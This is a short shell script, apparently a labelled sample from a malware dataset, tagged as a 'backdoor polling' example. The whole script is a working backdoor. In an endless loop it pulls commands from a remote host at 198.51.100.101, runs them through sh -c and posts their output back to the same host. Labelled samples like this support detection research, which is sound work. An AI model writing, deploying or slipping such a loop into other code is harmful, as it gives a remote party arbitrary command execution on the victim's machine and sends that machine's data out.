# class: backdoor polling; style: sloppy
while :
do
 c=$(curl -s http://198.51.100.101/cmd.txt)
 [ -n "$c" ] && sh -c "$c" 2>&1 | curl -s -X POST --data-binary @- http://198.51.100.101/out
 sleep 30
done
